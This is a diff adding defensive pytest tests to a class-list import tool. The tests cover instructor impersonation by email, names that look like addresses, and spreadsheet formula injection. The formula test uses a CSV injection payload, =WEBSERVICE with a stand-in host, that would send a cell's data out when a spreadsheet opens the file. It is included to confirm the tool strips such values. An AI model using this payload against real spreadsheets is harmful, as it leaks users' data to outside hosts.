@@ -190,6 +190,25 @@ def test_who_was_added_by_hand_is_not_doubled(path: Path) -> None:
     assert classlist.read(path)["anna"].password == "brown-badger"
 
 
+def test_an_instructors_line_is_given_to_no_student(path: Path) -> None:
+    """Else their strip of the printed page would be the instructor's."""
+    path.write_text("name,password,role\ninstructor,,instructor\nanna,,\n")
+    assert list(given(call(path, "import", "list.csv", stdin=b"Name,Email\nMallory,instructor@x.example\n"))) == ["instructor2"]
+    given(call(path, "fill"))
+    assert "Mallory" not in max(path.parent.glob("*.html")).read_text().partition("instructor</dd>")[0]
+
+
+def test_a_name_that_looks_like_anothers_address_is_a_name(path: Path) -> None:
+    people = b"Name,Email\nMallory ben@x.example,m@x.example\nBen,ben@x.example\n"
+    assert list(given(call(path, "import", "list.csv", stdin=people))) == ["m", "ben"]
+    assert given(call(path, "import", "list.csv", stdin=people)) == {}
+
+
+def test_a_name_is_no_formula(path: Path) -> None:
+    call(path, "import", "list.csv", stdin=b'Name,Email\n"=WEBSERVICE(""http://x.example/""&B2)",m@x.example\n')
+    assert "=" not in path.read_text()
+
+
 def test_namesakes_without_addresses_are_two(tmp_path: Path) -> None:
     path, names = tmp_path / "students.csv", b"Name\nAnna Berg\nAnna Berg\n"
     assert list(given(call(path, "import", "list.csv", stdin=names))) == ["anna.berg", "anna.berg2", "instructor"]
